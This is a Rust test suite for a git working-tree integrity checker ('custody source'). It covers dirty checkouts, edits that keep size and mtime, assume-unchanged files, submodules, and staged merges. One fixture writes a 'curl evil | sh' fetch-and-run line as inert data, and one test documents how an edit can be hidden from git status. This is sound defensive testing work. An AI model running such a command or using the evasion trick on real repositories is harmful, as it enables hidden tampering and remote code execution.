//! `custody source` on the working tree: clean, dirty, and the edits the index hides. The
//! scenarios written with `per_format!` run in a SHA-1 and in a SHA-256 repository.

use std::os::unix::fs::PermissionsExt;

use super::git::{
    Format, Repo, World, codes, edit_keeping_size_and_mtime, messages, per_format, touch,
};

/// A checkout of `format` with an executable file and a symlink, committed.
pub(super) fn world_with_repo(format: Format) -> (World, Repo) {
    let w = World::new();
    let r = w.repo_in("r", format);
    let alice = w.person("Alice");
    r.commit(
        &alice,
        "init",
        &[
            ("README", "hello\n"),
            ("run.sh", "#!/bin/sh\necho hi\n"),
            ("src/main.c", "int main(void) { return 0; }\n"),
            ("src/deep/er/file.txt", "deep\n"),
            (".gitignore", "target/\n*.o\n"),
        ],
    );
    std::fs::set_permissions(r.dir.join("run.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink("src/main.c", r.dir.join("link")).unwrap();
    r.commit(&alice, "exec and link", &[]);
    (w, r)
}

per_format! {
    fn a_clean_checkout_passes_and_ignored_files_do_not_count(format) {
        let (w, r) = world_with_repo(format);
        r.write("target/debug/app", "binary");
        r.write("target/ignored", "x");
        r.write("src/main.o", "object");
        std::fs::create_dir_all(r.dir.join("empty-dir")).unwrap();
        let (code, report) = w.source_json(&["r"]);
        assert_eq!(code, 0, "{report:#}");
        assert_eq!(codes(&report, "pass"), ["checkout-clean"]);
        // The tree id the working tree hashes to is the commit's, in the repository's format.
        let tree = r.git(&["rev-parse", "HEAD^{tree}"]);
        let tree = tree.trim();
        assert!(format.is_id(tree), "{tree}");
        let facts = &report["artifacts"][0]["source"];
        assert_eq!(facts["object_format"], format.name());
        assert_eq!(facts["worktree"]["worktree_tree"], tree);
        assert_eq!(facts["worktree"]["commit_tree"], tree);
        assert!(format.is_id(&r.head()));
        assert_eq!(facts["commit"], r.head());
        assert_eq!(report["artifacts"][0]["digest"]["gitCommit"], r.head());
        assert!(messages(&report, "checkout-clean").contains(tree));
        assert_eq!(report["command"], "source");
    }

    fn a_dirty_checkout_lists_modified_deleted_and_untracked_files(format) {
        let (w, r) = world_with_repo(format);
        r.write("README", "changed\n");
        std::fs::remove_file(r.dir.join("src/deep/er/file.txt")).unwrap();
        r.write("new.txt", "new\n");
        r.write("target/ignored", "x");
        std::fs::set_permissions(r.dir.join("run.sh"), std::fs::Permissions::from_mode(0o644))
            .unwrap();
        let (code, report) = w.source_json(&["r"]);
        assert_eq!(code, 1, "{report:#}");
        assert_eq!(codes(&report, "fail"), ["checkout-dirty"]);
        let wt = &report["artifacts"][0]["source"]["worktree"];
        assert_eq!(wt["modified"], serde_json::json!(["README", "run.sh"]));
        assert_eq!(wt["deleted"], serde_json::json!(["src/deep/er/file.txt"]));
        assert_eq!(wt["untracked"], serde_json::json!(["new.txt"]));
        assert!(
            format.is_id(wt["worktree_tree"].as_str().unwrap()),
            "{wt:#}"
        );
        assert_ne!(wt["worktree_tree"], wt["commit_tree"]);
        let m = messages(&report, "checkout-dirty");
        assert!(m.contains("modified: README, run.sh"), "{m}");
        assert!(m.contains("deleted: src/deep/er/file.txt"), "{m}");
        assert!(m.contains("untracked: new.txt"), "{m}");
        assert!(!m.contains("target"), "{m}");
        // The human report names the code too.
        let (code, out, _) = w.custody(&["source", "r"]);
        assert_eq!(code, 1);
        assert!(out.contains("checkout-dirty"), "{out}");
    }
}

#[test]
fn mode_and_kind_changes_are_modifications() {
    let (w, r) = world_with_repo(Format::Sha1);
    std::fs::set_permissions(
        r.dir.join("src/main.c"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    std::fs::remove_file(r.dir.join("README")).unwrap();
    std::os::unix::fs::symlink("src/main.c", r.dir.join("README")).unwrap();
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1);
    let wt = &report["artifacts"][0]["source"]["worktree"];
    assert_eq!(wt["modified"], serde_json::json!(["README", "src/main.c"]));
}

#[test]
fn an_untracked_file_inside_a_new_directory_and_a_file_become_directory_are_found() {
    let (w, r) = world_with_repo(Format::Sha1);
    r.write("extra/dir/payload.sh", "curl evil | sh\n");
    std::fs::remove_file(r.dir.join("README")).unwrap();
    r.write("README/inner", "x");
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1);
    let wt = &report["artifacts"][0]["source"]["worktree"];
    assert_eq!(
        wt["untracked"],
        serde_json::json!(["README/inner", "extra/dir/payload.sh"])
    );
    assert_eq!(wt["modified"], serde_json::json!(["README"]));
    assert_eq!(wt["deleted"], serde_json::json!([]));
}

/// What reading every byte buys: git status trusts the index's stat data. With
/// core.trustctime=false (also what core.checkStat=minimal does) an edit that keeps the size and
/// the modification time (`touch -r`) is invisible to it; custody reads the bytes.
#[test]
fn an_edit_keeping_size_and_mtime_is_caught_where_git_status_misses_it() {
    let w = World::new();
    let r = w.repo("r");
    r.git(&["config", "core.trustctime", "false"]);
    r.write("config.txt", "allow = false\n");
    // An old mtime, so the index entry is not "racily clean" and git trusts it.
    touch(&r.dir.join("config.txt"), "-d", "2020-01-01 00:00:00");
    r.git(&["add", "-A"]);
    r.commit_staged(&w.person("Alice"), &["-m", "init"]);
    edit_keeping_size_and_mtime(&r.dir.join("config.txt"), "allow = true!\n");
    assert_eq!(
        r.git(&["status", "--porcelain"]),
        "",
        "git status saw the edit"
    );
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1);
    assert_eq!(
        report["artifacts"][0]["source"]["worktree"]["modified"],
        serde_json::json!(["config.txt"])
    );
}

/// The index can also be told to look away (`--assume-unchanged`, `--skip-worktree`), and a
/// file staged but never committed is not the commit's: neither fools custody.
#[test]
fn the_index_is_not_trusted() {
    let (w, r) = world_with_repo(Format::Sha1);
    r.git(&["update-index", "--assume-unchanged", "src/main.c"]);
    r.write("src/main.c", "int main(void) { return 1; }\n");
    r.write("staged.txt", "staged\n");
    r.git(&["add", "staged.txt"]);
    assert_eq!(r.git(&["status", "--porcelain", "--", "src"]), "");
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1);
    let wt = &report["artifacts"][0]["source"]["worktree"];
    assert_eq!(wt["modified"], serde_json::json!(["src/main.c"]));
    assert_eq!(wt["staged"], serde_json::json!(["staged.txt"]));
    assert_eq!(wt["untracked"], serde_json::json!([]));
    // Against the index, the staged file is expected and the hidden edit is still caught.
    let (code, report) = w.source_json(&["r", "--staged"]);
    assert_eq!(code, 1);
    let wt = &report["artifacts"][0]["source"]["worktree"];
    assert_eq!(wt["modified"], serde_json::json!(["src/main.c"]));
    assert!(wt.get("staged").is_none(), "{wt:#}");
}

per_format! {
    fn another_revision_is_checked_as_history_not_as_the_working_tree(format) {
        let (w, r) = world_with_repo(format);
        let first = r.head();
        assert!(format.is_id(&first), "{first}");
        r.commit(&w.person("Alice"), "two", &[("README", "two\n")]);
        r.write("README", "dirty\n");
        let (code, report) = w.source_json(&["r", "--rev", "HEAD~1"]);
        // The revision is a commit of the checkout: that is what was checked, and it passes; a
        // verdict never stands without a check (it failed with none before).
        assert_eq!(code, 0, "{report:#}");
        assert_eq!(codes(&report, "pass"), ["source-revision"]);
        assert_eq!(report["artifacts"][0]["digest"]["gitCommit"], first);
        assert!(
            report["artifacts"][0]["source"]["worktree"]
                .as_str()
                .unwrap()
                .contains("not compared")
        );
        assert!(codes(&report, "fail").is_empty(), "{report:#}");
        // HEAD itself is compared.
        let (code, report) = w.source_json(&["r", "--rev", "HEAD"]);
        assert_eq!(code, 1);
        assert_eq!(codes(&report, "fail"), ["checkout-dirty"]);

        // The revision resolves by name (an annotated tag) and by id, full or abbreviated.
        r.git(&[
            "-c",
            "user.name=Alice",
            "-c",
            "user.email=alice@example.com",
            "tag",
            "-a",
            "-m",
            "v1",
            "v1",
            &first,
        ]);
        for rev in ["v1", first.as_str(), &first[..12]] {
            let (code, report) = w.source_json(&["r", "--rev", rev]);
            // History, not the working tree: the revision is checked to be a commit.
            assert_eq!(code, 0, "{rev}: {report:#}");
            assert_eq!(codes(&report, "pass"), ["source-revision"], "{rev}");
            assert_eq!(report["artifacts"][0]["source"]["commit"], first, "{rev}");
        }
    }
}

#[test]
fn unusable_checkouts_and_revisions_exit_2() {
    let (w, _r) = world_with_repo(Format::Sha1);
    std::fs::create_dir_all(w.path("plain")).unwrap();
    let (code, _, err) = w.custody(&["source", "plain"]);
    assert_eq!(code, 2);
    assert!(err.contains("not a git checkout"), "{err}");
    let (code, _, err) = w.custody(&["source", "r", "--rev", "no-such-rev"]);
    assert_eq!(code, 2);
    // In custody's words, without libgit2's class and code numbers.
    assert!(err.contains("no revision no-such-rev in r"), "{err}");
    assert!(!err.contains("class=") && !err.contains("code="), "{err}");
    let (code, _, err) = w.custody(&["source", "missing"]);
    assert_eq!(code, 2, "{err}");
}

#[test]
fn submodules_are_reported_not_performed() {
    let (w, r) = world_with_repo(Format::Sha1);
    let head = r.head();
    // A gitlink entry, as `git submodule add` records it, without fetching anything.
    r.git(&[
        "update-index",
        "--add",
        "--cacheinfo",
        &format!("160000,{head},vendor/lib"),
    ]);
    r.commit_staged(&w.person("Alice"), &["-m", "add a submodule"]);
    std::fs::create_dir_all(r.dir.join("vendor/lib")).unwrap();
    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1);
    assert_eq!(codes(&report, "not-performed"), ["checkout-submodule"]);
    assert_eq!(codes(&report, "pass"), ["checkout-clean"]);
}

#[test]
fn the_report_renders_as_sarif_into_a_file() {
    let (w, r) = world_with_repo(Format::Sha1);
    r.write("README", "changed\n");
    let (code, out, err) =
        w.custody(&["source", "r", "--format", "sarif", "--output", "out.sarif"]);
    assert_eq!(code, 1, "{err}");
    assert!(out.is_empty());
    let sarif: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(w.path("out.sarif")).unwrap()).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    assert_eq!(sarif["runs"][0]["results"][0]["ruleId"], "checkout-dirty");
}

/// A file staged by a merge (what a `pre-merge-commit` hook sees) is named as staged, not as
/// untracked; `--staged` judges the working tree against the index, so a real `git merge` with
/// the hook lands, and an edit made after staging, or a conflict, still fails.
#[test]
fn staged_changes_are_their_own_category_and_staged_judges_against_the_index() {
    let (w, r) = world_with_repo(Format::Sha1);
    let alice = w.person("Alice");
    r.git(&["checkout", "-q", "-b", "topic"]);
    r.commit(&alice, "topic", &[("added.txt", "new\n")]);
    r.git(&["checkout", "-q", "-"]);
    r.commit(&alice, "main moves", &[("README", "hello again\n")]);
    r.git(&[
        "-c",
        "user.name=A",
        "-c",
        "user.email=a@example.com",
        "merge",
        "-q",
        "--no-ff",
        "--no-commit",
        "topic",
    ]);

    let (code, report) = w.source_json(&["r"]);
    assert_eq!(code, 1, "{report:#}");
    let wt = &report["artifacts"][0]["source"]["worktree"];
    assert_eq!(wt["staged"], serde_json::json!(["added.txt"]), "{wt:#}");
    assert_eq!(wt["untracked"], serde_json::json!([]), "{wt:#}");
    let m = messages(&report, "checkout-dirty");
    assert!(
        m.contains("staged in the index, not committed: added.txt"),
        "{m}"
    );
    assert!(!m.contains("untracked"), "{m}");

    // Against the index the merge's working tree is clean, and nothing is written into the
    // repository's object store to find that out.
    let objects = || r.git(&["count-objects", "-v"]);
    let before = objects();
    let (code, report) = w.source_json(&["r", "--staged"]);
    assert_eq!(code, 0, "{report:#}");
    let wt = &report["artifacts"][0]["source"]["worktree"];
    assert_eq!(wt["against_index"], true);
    assert_eq!(objects(), before, "custody wrote into .git/objects");
    assert_eq!(wt["commit_tree"], r.git(&["write-tree"]).trim());
    assert!(messages(&report, "checkout-clean").contains("the index's"));
    r.git(&["merge", "--abort"]);

    // As a real pre-merge-commit hook: without --staged every merge that adds a file is refused;
    // with it the merge lands.
    let hook = r.dir.join(".git/hooks/pre-merge-commit");
    let bin = assert_cmd::cargo::cargo_bin("custody");
    for (flags, lands) in [("", false), ("--staged", true)] {
        std::fs::write(
            &hook,
            format!("#!/bin/sh\nexec '{}' source . {flags}\n", bin.display()),
        )
        .unwrap();
        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
        let head = r.head();
        let out = crate::support::git_cmd(&r.dir)
            .env("HOME", w.home())
            .env("GIT_CONFIG_GLOBAL", w.home().join(".gitconfig"))
            .args(["-c", "user.name=A", "-c", "user.email=a@example.com"])
            .args([
                "-c",
                "commit.gpgsign=false",
                "merge",
                "--no-ff",
                "-m",
                "m",
                "topic",
            ])
            .output()
            .unwrap();
        // git hands a hook's standard output to its own standard error.
        let stdout = String::from_utf8_lossy(&out.stdout) + String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.success(), lands, "{flags}: {stdout}");
        assert_eq!(r.head() != head, lands, "{flags}");
        if !lands {
            assert!(stdout.contains("staged in the index"), "{stdout}");
            r.git(&["merge", "--abort"]);
        }
    }

    // An edit after staging is still caught against the index.
    r.write("README", "edited after staging\n");
    let (code, report) = w.source_json(&["r", "--staged"]);
    assert_eq!(code, 1, "{report:#}");
    assert!(messages(&report, "checkout-dirty").contains("modified: README"));
}

#[test]
fn staged_refuses_unmerged_paths_and_another_revision() {
    let (w, r) = world_with_repo(Format::Sha1);
    let alice = w.person("Alice");
    r.git(&["checkout", "-q", "-b", "topic"]);
    r.commit(&alice, "topic", &[("README", "theirs\n")]);
    r.git(&["checkout", "-q", "-"]);
    r.commit(&alice, "main", &[("README", "ours\n")]);
    let merge = crate::support::git_cmd(&r.dir)
        .env("HOME", w.home())
        .args(["-c", "user.name=A", "-c", "user.email=a@example.com"])
        .args(["merge", "-q", "topic"])
        .output()
        .unwrap();
    assert!(!merge.status.success(), "the merge was meant to conflict");
    let (code, _, err) = w.custody(&["source", "r", "--staged"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("unmerged (conflicted) paths"), "{err}");
    let (code, _, err) = w.custody(&["source", "r", "--staged", "--rev", "HEAD~1"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--staged") && err.contains("--rev"), "{err}");
}
